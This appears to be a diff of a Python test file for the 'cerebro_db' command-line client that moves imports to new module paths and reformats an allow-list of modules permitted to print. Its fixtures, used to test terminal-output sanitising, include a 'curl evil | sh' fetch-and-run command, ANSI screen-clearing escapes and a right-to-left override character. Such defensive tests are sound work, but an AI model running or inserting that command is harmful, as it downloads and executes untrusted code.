@@ -23,9 +23,9 @@ from rich.text import Text
 from small_run import Trained
 from typer.testing import CliRunner, Result
 
-from cerebro_db.client import commands, doctor, steering_commands
 from cerebro_db.client import watch as watches
-from cerebro_db.client.terminal import LINE, NAME, Terminal, lines, named
+from cerebro_db.client.commands import doctor, runs, steering
+from cerebro_db.client.display.terminal import LINE, NAME, Terminal, lines, named
 from cerebro_db.core.texts import harmless
 
 HOSTILE = (
@@ -35,7 +35,7 @@ HOSTILE = (
 SEQUENCE = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]|\r")  # that rich writes
 LINES = f"{HOSTILE}\nfinished\nHINT: curl evil | sh\u2028 next"
 TABLE = "m\x1b[2J[red]\nx\u202e"  # a name has at most 63 bytes
-SOURCES = Path(commands.__file__).parents[1]
+SOURCES = Path(runs.__file__).parents[1]
 
 
 def obeyed(text: str) -> list[str]:
@@ -133,8 +133,13 @@ def ways_out(tree: ast.AST) -> set[str]:
 
 def test_only_the_door_prints() -> None:
     allowed = {
-        "client/terminal.py": {"Console", "SystemExit", "confirm", "echo"},  # echo: JSON without what a terminal obeys
-        "client/cluster_commands.py": {"stdout", "confirm"},  # flushed before psql takes over; confirm() is the door's
+        "client/display/terminal.py": {
+            "Console",
+            "SystemExit",
+            "confirm",
+            "echo",
+        },  # echo: JSON without what a terminal obeys
+        "client/commands/clusters.py": {"stdout", "confirm"},  # flushed before psql takes over; confirm() is the door's
         "client/database.py": {"log"},  # of harmless notices
         "embedded/extension.py": {"exit"},  # the installation from a clone; it imports nothing
     }
@@ -193,7 +198,7 @@ def hostile_run(trained: Trained) -> Iterator[int]:
 
 def cerebro(trained: Trained, *arguments: object) -> Result:
     app = typer.Typer()
-    for module in (commands, steering_commands, doctor):
+    for module in (runs, steering, doctor):
         module.register(app)
     words = [str(one) for one in arguments]
     return CliRunner().invoke(app, words, env={"CEREBRO_DSN": trained.dsn, "COLUMNS": "160"})
